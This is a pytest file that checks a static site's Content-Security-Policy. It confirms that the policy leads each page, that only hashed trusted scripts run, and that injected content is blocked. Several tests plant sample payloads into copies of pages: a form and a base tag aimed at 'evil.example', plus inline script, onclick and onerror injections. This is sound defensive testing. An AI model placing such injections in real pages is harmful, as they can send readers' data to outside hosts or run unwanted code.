"""The policy of every page: the site itself complies, and content that slips into a page is blocked."""

import re
import shutil
from pathlib import Path

import pytest
from playwright.sync_api import Page

from browser import Contexts, served
from reviews.pages.policy import inline_scripts, protected

META = '<meta http-equiv="Content-Security-Policy"'
# Throws an error, since the browser itself reports violations only to its console.
LISTEN = """window.violations = []
document.addEventListener("securitypolicyviolation", (event) =>
  violations.push(`${event.violatedDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`))"""
# `test_pages_in_browser.py` opens a page of every other kind, and hears of violations as of any error.
PATHS = ("notes/2007.06600/", "abs/2007.06600/", "abs/2007.06600v9/", "abs/2007.99999/", "nowhere/")


@pytest.fixture
def page(contexts: Contexts) -> Page:
    page = contexts().new_page()
    page.add_init_script(LISTEN)
    return page


def test_every_page_has_its_policy_before_anything_else(built: Path) -> None:
    for file in built.rglob("*.html"):
        head = file.read_text(encoding="utf-8").partition("</head>")[0]
        assert head.count(META) == 1, file
        assert not re.search(r"<(?:script|link|style|title)", head.partition(META)[0]), file


def test_no_policy_allows_scripts_at_large(built: Path) -> None:
    for file in built.rglob("*.html"):
        policy = re.search(rf'{META} content="([^"]*)"', file.read_text(encoding="utf-8"))
        assert policy is not None
        rules = dict(rule.strip().partition(" ")[::2] for rule in policy[1].split(";"))
        assert rules["default-src"] == "'none'"
        assert not re.search("unsafe|https?:|\\*", rules.get("script-src", ""))


def test_a_form_that_slips_into_a_page_sends_nothing_elsewhere(built: Path, page: Page, tmp_path: Path) -> None:
    """What a reader types, or a browser fills in, stays; no script is needed to send a form."""
    site = shutil.copytree(built, tmp_path / "site")
    file = site / "notes" / "2007.06600" / "index.html"
    slipped = "<form action='https://evil.example/'><input name='x'><button id='x'>x</button></form>"
    file.write_text(file.read_text(encoding="utf-8").replace("<article", f"{slipped}<article", 1), encoding="utf-8")
    with served(site) as base:
        page.goto(f"{base}notes/2007.06600/")
        page.locator("#x").dispatch_event("click")
        # The page's own policy forbids `wait_for_function`, which evaluates a text whenever it has to look twice.
        for _ in range(200):
            if found := page.evaluate("violations"):
                break
            page.wait_for_timeout(50)
        assert found[0].startswith("form-action https://evil.example/")
        assert page.url == f"{base}notes/2007.06600/"


def test_a_base_that_slips_into_a_page_leads_no_link_elsewhere(built: Path, page: Page, tmp_path: Path) -> None:
    site = shutil.copytree(built, tmp_path / "site")
    file = site / "notes" / "2007.06600" / "index.html"
    text = file.read_text(encoding="utf-8")
    file.write_text(text.replace("<article", "<base href='https://evil.example/'><article", 1), encoding="utf-8")
    with served(site) as base:
        page.goto(f"{base}notes/2007.06600/")
        assert page.evaluate("document.baseURI") == f"{base}notes/2007.06600/"


def test_the_site_keeps_its_policy(built: Path, page: Page) -> None:
    violations = {}
    with served(built) as base:
        for path in PATHS:
            page.goto(base + path)
            page.wait_for_load_state("networkidle")
            violations[path] = page.evaluate("violations")
    assert {path: found for path, found in violations.items() if found} == {}


def test_search_copying_and_colours_keep_the_policy(built: Path, page: Page) -> None:
    with served(built) as base:
        page.goto(f"{base}notes/2007.06600/")
        page.click("details.cite summary")
        page.click("details.cite button[data-md-type=copy]")
        page.click("form[data-md-component=palette] label:visible")
        assert page.get_attribute("body", "data-md-color-media") != "(prefers-color-scheme)"
        page.keyboard.press("s")
        page.keyboard.type("GAN")
        page.wait_for_selector(".md-search-result__item", state="attached")
        assert page.evaluate("violations") == []


def test_a_script_that_slips_into_a_page_does_not_run(built: Path, page: Page, tmp_path: Path) -> None:
    site = shutil.copytree(built, tmp_path / "site")
    for name in ("notes/2007.06600/index.html", "404.html"):
        file = site / name
        slipped = "<p id='x' onclick='ran = 1'>x</p><script>ran = 1</script><img src='x' onerror='ran = 1'>"
        file.write_text(file.read_text(encoding="utf-8").replace("<article", f"{slipped}<article", 1), encoding="utf-8")
    with served(site) as base:
        for path in ("notes/2007.06600/", "nowhere/"):
            page.goto(base + path)
            page.locator("#x").dispatch_event("click")
            page.wait_for_timeout(200)
            assert page.evaluate("window.ran") is None
            assert len(page.evaluate("violations")) == 3


def test_only_trusted_scripts_are_allowed() -> None:
    theme = '<meta charset="utf-8"><script>root=new URL("..",location)</script>'
    trusted = inline_scripts(theme)
    deeper = theme.replace('".."', '"../.."')
    assert protected(deeper, trusted).count("sha256-") == 1
    assert protected(deeper + "<script>alert(1)</script>", trusted).count("sha256-") == 1
    assert protected(theme.replace("root", "alert"), trusted).count("sha256-") == 0
    assert protected(theme, trusted) != protected(deeper, trusted)


def test_of_a_script_only_the_first_address_may_differ() -> None:
    script = '<meta charset="utf-8"><script>f(new URL("."),new URL("x"))</script>'
    trusted = inline_scripts(script)
    assert "sha256-" not in protected(script.replace('"x"', '"y"'), trusted)
    once = protected(script, trusted)
    assert "script-src 'self' 'sha256-KrQ7yS5l9sgFwjLrJz4gu8UcXb92uGfCy4SnzY2STkA='" in once
    assert protected(script * 2, trusted).count("sha256-") == 1


def test_an_origin_that_the_settings_allow_is_in_the_policy_alone() -> None:
    head = '<head><meta charset="utf-8">'
    rules = {
        rule.split()[0]: rule.split()[1:]
        for rule in re.findall(r'content="([^"]*)"', protected(head, (), ("https://giscus.app",)))[0].split(";")
    }
    with_it = {name for name, sources in rules.items() if "https://giscus.app" in sources}
    assert with_it == {"script-src", "style-src", "connect-src", "form-action", "frame-src"}
    assert "frame-src" not in protected(head, ())
    assert "giscus" not in protected(head, ())


def test_the_policy_stands_behind_the_charset_once() -> None:
    for head in ('<meta charset="utf-8">', "<META charset=UTF-8 />", '<meta charset="utf-8"/>'):
        page = protected(f"<head>{head}<title>x</title>{head}", ())
        assert page.startswith(f"<head>{head}{META}")
        assert page.count(META) == 1
    assert protected("<p>x</p>", ()) == "<p>x</p>"


def test_a_script_is_trusted_but_for_the_sites_root_in_it() -> None:
    script = '<script>a=new URL("..",l);b=new URL("https://a.example",l)</script>'
    trusted = inline_scripts(script)
    head = '<meta charset="utf-8">'
    assert protected(head + script.replace('".."', '"../.."'), trusted).count("sha256-") == 1
    assert protected(head + script.replace("a.example", "evil.example"), trusted).count("sha256-") == 0
    assert protected(head + script + script, trusted).count("sha256-") == 1
    assert len(inline_scripts(f'{script}<script id="__analytics">c()</script><script src="x"></script>')) == 2
